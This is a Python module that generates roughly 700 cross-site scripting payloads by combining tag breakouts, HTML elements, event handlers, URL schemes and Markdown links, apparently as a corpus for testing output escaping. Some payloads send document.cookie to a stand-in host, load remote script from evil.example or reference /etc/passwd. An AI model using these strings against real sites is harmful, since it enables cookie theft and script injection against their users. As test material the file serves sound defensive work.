"""Strings that would run a script, load something or break out of their place, if a page did not escape them."""

from __future__ import annotations

from itertools import product

CALLS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "import('https://evil.example/x.js')")
BREAKS = (
    *("", '"', "'", ">", '">', "'>", "`", "</script>", "</style>", "</title>", "</textarea>", "</svg>", "-->", "]]>"),
    *("*/", "\\", "\\u003c", "&quot;&gt;", "\u2028", "</span></p></li></ul></section></main>"),
)
ELEMENTS = (
    *("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{}"),
    *("<img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>"),
    *("<svg><animate onbegin={} attributeName=x>", "<math><mi xlink:href='javascript:{}'>", "<body onload={}>"),
    *(
        "<iframe src='javascript:{}'></iframe>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data='data:{}'>",
    ),
    *(
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example/>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action='javascript:{}'><button>go</form>"),
    *("<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>"),
    *(
        "<a href='javascript:{}'>go</a>",
        "<style>@import '//evil.example'</style>",
        "<p style='x:eval({})'>",
    ),
    *("<!--<script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>"),
    *(
        "<template><script>{}</script></template>",
        "<noscript><img src=x onerror={}></noscript>",
        "<dialog onclose={}>",
    ),
)
ATTRIBUTES = (
    *(
        "onmouseover={} x",
        "autofocus onfocus={} x",
        "style=animation-name:x onanimationstart={} x",
        "accesskey=x onclick={}",
    ),
)
SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java&#x0A;script:{}",
        "&#106;avascript:{}",
        " javascript:{}",
    ),
    *("\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>"),
    *("file:///etc/passwd#{}", "//evil.example/{}", "http://evil.example/{}", "\\\\evil.example\\{}", "blob:{}"),
)
LINKS = ("[go]({})", "![see]({})", "<{}>", "[go][x]\n\n[x]: {}", "[![see]({0})]({0})", "[go](<{}>)")


def make_script_strings() -> list[str]:
    """Return about 700 different strings."""
    said = [f"{lead}{element.format(CALLS[0])}" for lead, element in product(BREAKS, ELEMENTS)]
    said += [f"{lead} {attribute.format(call)}" for lead, attribute, call in product(('"', "'"), ATTRIBUTES, CALLS)]
    said += [link.format(scheme.format("alert(1)")) for link, scheme in product(LINKS, SCHEMES)]
    return list(dict.fromkeys(said))
